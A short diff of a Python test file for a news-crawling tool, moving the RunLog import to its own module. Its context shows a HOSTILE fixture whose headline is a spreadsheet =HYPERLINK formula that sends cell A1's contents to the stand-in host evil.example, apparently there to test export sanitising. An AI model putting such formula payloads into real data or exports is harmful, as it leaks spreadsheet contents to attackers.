@@ -12,7 +12,8 @@ from conftest import replay_crawl
 from conftest import run_newscrawl as newscrawl
 from test_scheduler import FakeScrapyd
 
-from newscrawl.tools.scheduling import RunLog, Scheduler
+from newscrawl.tools.runlog import RunLog
+from newscrawl.tools.scheduling import Scheduler
 
 HOSTILE = {
     "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
